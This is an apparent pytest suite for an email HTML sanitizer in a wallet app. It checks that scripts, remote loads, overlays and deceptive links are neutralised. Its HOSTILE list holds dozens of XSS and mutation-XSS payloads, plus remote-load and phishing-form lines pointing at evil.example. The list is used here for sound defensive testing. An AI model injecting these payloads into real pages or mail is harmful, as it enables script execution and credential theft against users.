"""What an agent sees of a stranger's HTML: nothing runs, nothing loads, nothing covers, links say where they lead."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from tests.channels.mail.letters import mail
from walletdesk.channels.mail.markup import TAGS, link_host
from walletdesk.channels.mail.reading import read

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s><image href="https://evil.example/x"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css);body{background:url(//evil.example)}</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">cover</div>',
    "<p style=\"background:url('https://evil.example/x.png')\">x</p>",
    '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
    '<img src="https://evil.example/x.png" srcset="https://evil.example/y.png 2x">',
    '<img src="//evil.example/x.png">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<video poster="https://evil.example/x"><source src="https://evil.example/y"></video>',
    '<audio src="https://evil.example/x" autoplay></audio>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<input type=image src="https://evil.example/x" onfocus=alert(1) autofocus>',
    "<body onload=alert(1) background=https://evil.example/x>",
    '<font face="x" color="expression(alert(1))">x</font>',
    "<select><style></select><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<a href="https://ok.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    "<!--[if mso]><img src=https://evil.example/x><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<plaintext><script>alert(1)</script>",
    '<div id="app" class="x" name="body"><img name="getElementById" src="cid:none"></div>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
]

ALLOWED = {"href", "title", "rel", "target", "data-host", "alt", "width", "height", "data-attachment", "data-blocked",
           "colspan", "rowspan", "start", "dir", "lang"}  # fmt: skip


class Looks(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ALLOWED:
                self.wrong.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(?:https?://|mailto:|tel:)", value or ""):
                self.wrong.append(f"href {value}")


@pytest.mark.parametrize("page", HOSTILE)
@pytest.mark.parametrize(
    "around", ["{}", "<div>before {} after</div>", "<table><tr><td>{}</td></tr></table>", "<p><b>{}"]
)
def test_nothing_runs_or_loads(page: str, around: str) -> None:
    safe = read(mail(page=around.format(page))).html_safe
    looks = Looks()
    looks.feed(safe)
    looks.close()
    assert looks.wrong == []
    assert not re.search(r"<[^>]*\b(?:src|srcset|style|background|action|on\w+)\s*=", safe)


def test_what_was_not_loaded_is_counted() -> None:
    page = '<img src="https://a.example/1.png"><img src="//a.example/2"><td background="http://a.example/3"><p style="background:url(https://a.example/4)">x</p>'
    found = read(mail(page=page + '<img src="cid:nothing">'))
    assert found.blocked >= 3
    assert read(mail(page="<p>x</p>")).blocked == 0


def test_a_link_says_where_it_leads() -> None:
    safe = read(mail(page='<a href="https://evil.example/login">https://bank.example</a>')).html_safe
    assert "[evil.example]" in safe and 'rel="noopener noreferrer nofollow"' in safe
    assert "[" not in read(mail(page='<a href="https://bank.example/x">bank.example</a>')).html_safe
    assert "[xn--" in read(mail(page='<a href="https://аррӏе.example/">apple.example</a>')).html_safe
    assert link_host("https://good.example@evil.example/") == "evil.example"
    assert (
        "[evil.example]" in read(mail(page='<a href="https://good.example@evil.example/">good.example</a>')).html_safe
    )


def test_where_a_link_leads_is_in_the_words_too() -> None:
    assert (
        read(mail(page='<a href="https://scan.example/tx/0x12">my transfer</a>')).text
        == "my transfer <https://scan.example/tx/0x12>"
    )


def test_what_the_sender_hid_is_no_word_of_the_mail() -> None:
    assert read(mail(page='<div style="display:none">hidden</div><p>shown</p>')).text == "shown"


def test_blocks_become_lines() -> None:
    page = "<p>one</p><p>two<br>three</p><ul><li>four</li><li>five</li></ul><table><tr><td>six</td><td>seven</td></tr></table><pre>a\n  b</pre>"
    assert read(mail(page=page)).text == "one\n\ntwo\nthree\n\n- four\n- five\n\nsix seven\n\na\n  b"
